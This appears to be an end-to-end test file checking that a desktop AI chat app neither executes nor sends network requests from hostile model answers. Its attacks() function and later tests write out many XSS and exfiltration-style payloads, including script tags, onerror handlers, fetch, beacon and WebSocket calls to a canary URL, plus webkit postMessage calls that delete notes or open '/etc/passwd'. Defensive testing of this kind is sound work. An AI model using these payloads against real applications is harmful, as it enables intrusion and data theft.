"""Malicious answers: no network access, nothing opens, no code runs in the host."""

import unittest
import urllib.request

from harness import E2ECase, HostileServer, wait_until
from harness.messages import STREAM_COMPLETE
from harness.server import QUERY


def template(code):
    """A script injected through a template literal; double quotes only."""
    return "${(() => {try { " + code + " } catch (problem) {} return ''; })()}".replace("'", '"')


def attacks(canary):
    """Markdown that tries to reach the canary's URL in every known way."""
    host = canary.split("//")[1]
    return "\n\n".join([
        "# Innocent heading",
        f"![picture]({canary}/markdown-image)",
        f"<img src='{canary}/image'><img src=x onerror=\"fetch('{canary}/onerror')\">",
        f"<script>fetch('{canary}/script')</script>",
        f"<script src='{canary}/script-source'></script>",
        f"<iframe src='{canary}/frame'></iframe>",
        f"<iframe srcdoc=\"<img src='{canary}/srcdoc'>\"></iframe>",
        f"<object data='{canary}/object'></object><embed src='{canary}/embed'>",
        f"<link rel=stylesheet href='{canary}/style'><link rel=prefetch href='{canary}/prefetch'>"
        f"<link rel=preconnect href='{canary}/'><link rel=dns-prefetch href='//{host}'>",
        f"<style>@import url('{canary}/import'); h1 {{background: url('{canary}/background')}}"
        f"</style>",
        f"<meta http-equiv=refresh content='0;url={canary}/refresh'>",
        f"<video src='{canary}/video' poster='{canary}/poster' autoplay></video>",
        f"<audio src='{canary}/audio' autoplay></audio>",
        f"<svg><image href='{canary}/svg'/><use href='{canary}/use#a'/></svg>",
        f"<form id=f action='{canary}/form'><input name=a></form>",
        f"<base href='{canary}/base/'>",
        f"<div style=\"background-image:url('{canary}/inline')\">x</div>",
        f"<details open ontoggle=\"new Image().src='{canary}/toggle'\">y</details>",
        f"[link]({canary}/link)",
        *(template(code) for code in (
            f'fetch("{canary}/template")',
            f'new Image().src = "{canary}/template-image"',
            f'navigator.sendBeacon("{canary}/beacon")',
            f'new WebSocket("ws://{host}/socket")',
            f'new EventSource("{canary}/events")',
            f'const x = new XMLHttpRequest(); x.open("GET", "{canary}/xhr"); x.send()',
            f'window.open("{canary}/popup")',
            f'new Worker("{canary}/worker")',
            f'const p = new RTCPeerConnection({{iceServers: [{{urls: "stun:{host}"}}]}}); '
            'p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))',
            f'const f = document.createElement("iframe"); f.src = "{canary}/made-frame"; '
            'document.documentElement.append(f)',
            f'setTimeout(() => location.href = "{canary}/navigate", 50)',
            f'setTimeout(() => document.getElementById("f").submit(), 20)',
        )),
        "Visible end",
    ])


class HostileAnswerTest(E2ECase):
    def test_canary_records_requests(self):
        canary = self.server()
        urllib.request.urlopen(canary.url + "/api/logs/app", b"", timeout=10).close()
        self.assertEqual(canary.connection_count, 1)

    def test_nothing_reaches_the_network(self):
        canary = self.server()
        server = self.server()
        text = attacks(canary.url)
        server.on(QUERY, HostileServer.answer_with(text[:len(text) // 2], text[len(text) // 2:]))
        app = self.app(server).sign_in()
        app.send_prompt("attack")
        app.wait_for_line(STREAM_COMPLETE)
        wait_until(app.turns, what="the stored turn")
        app.access.wait_for_page_text("Visible end")
        # A second, harmless answer in the same thread reloads the first one and gives scheduled
        # scripts time to run.
        server.on(QUERY, HostileServer.answer_with("second answer"))
        app.send_prompt("again")
        app.wait_for_line(STREAM_COMPLETE)
        app.access.wait_for_page_text("second answer")
        self.assertEqual([request.target for request in canary.requests()], [])
        self.assertEqual(canary.connection_count, 0)
        self.assertEqual(app.opened(), [])
        self.assertTrue(app.running)
        # The program still works.
        app.access.press("New thread")
        server.on(QUERY, HostileServer.answer_with("third answer"))
        app.send_prompt("still there")
        app.access.wait_for_page_text("third answer")

    def test_prompts_and_notes_are_shown_as_text(self):
        server = self.server()
        app = self.app(server).sign_in()
        app.send_prompt("<b>bold</b> & <img src=x onerror=alert(1)>")
        app.wait_for_line(STREAM_COMPLETE)
        text = app.access.wait_for_page_text("<b>bold</b>")
        self.assertIn("<img src=x onerror=alert(1)>", text)
        app.focus_prompt()
        self.desktop.type_text("a <i>note</i>")
        app.access.press("Add note")
        app.wait_for_line("[OverlayWindowController] Note added to current session")
        app.access.wait_for_page_text("a <i>note</i>")

    def test_answer_presses_nothing_and_the_next_one_is_shown(self):
        canary = self.server()
        server = self.server()
        app = self.app(server).sign_in()
        app.focus_prompt()
        self.desktop.type_text("a note to keep")
        app.access.press("Add note")
        note = wait_until(lambda: [note["id"] for thread in app.threads()
                                   for note in thread["notes"]], what="the stored note")[0]
        post = "webkit.messageHandlers."
        codes = ("document.querySelector('.note-delete').click()",
                 f"{post}noteDelete.postMessage('{note}')",
                 f"{post}noteDelete.postMessage('nonsense')",
                 f"{post}openScreenshot.postMessage('/etc/passwd')",
                 f"{post}scrollPosition.postMessage({{scrollTop: 'x'}})",
                 f"setInterval(() => {{ for (;;) {post}noteDelete.postMessage('{note}'); }})",
                 f"fetch('{canary.url}/ran')", "document.body.textContent = 'ran'")
        text = "\n\n".join(
            ["echo ${HOME} and ${ too", *map(template, codes),
             *(f"<script>{code}</script>" for code in codes),
             *(f'<img src=x onerror="{code}">' for code in codes),
             f'<button class="note-delete" data-note="{note}">x</button>', "Visible end"])
        server.on(QUERY, HostileServer.answer_with(text[:300], text[300:]))
        mark = app.mark()
        app.send_prompt("attack")
        app.wait_for_line(STREAM_COMPLETE, since=mark)
        wait_until(app.turns, what="the stored turn")
        shown = app.access.wait_for_page_text("Visible end")
        self.assertIn("echo ${HOME} and ${ too", shown)
        self.assertIn("${(() => {try { document.querySelector", shown)
        server.on(QUERY, HostileServer.answer_with("the next answer"))
        app.send_prompt("again")
        app.wait_for_line(STREAM_COMPLETE)
        app.access.wait_for_page_text("the next answer")
        self.assertIn("a note to keep", app.access.page_text())
        self.assertEqual([note["text"] for note in app.threads()[0]["notes"]], ["a note to keep"])
        self.assertEqual([line for line in app.lines_since(mark) if "ERROR" in line], [])
        self.assertEqual(canary.connection_count, 0)
        self.assertEqual(app.opened(), [])
        # The user's own press still works; the note is at the top.
        self.desktop.press("shift+f6")
        app.access.wait_focused("")
        self.desktop.press("home")
        app.access.focus("Delete note")
        self.desktop.press("return")
        wait_until(lambda: not app.threads()[0]["notes"], what="the note to disappear")
        self.assertEqual(len(app.turns()), 2)


if __name__ == "__main__":
    unittest.main()
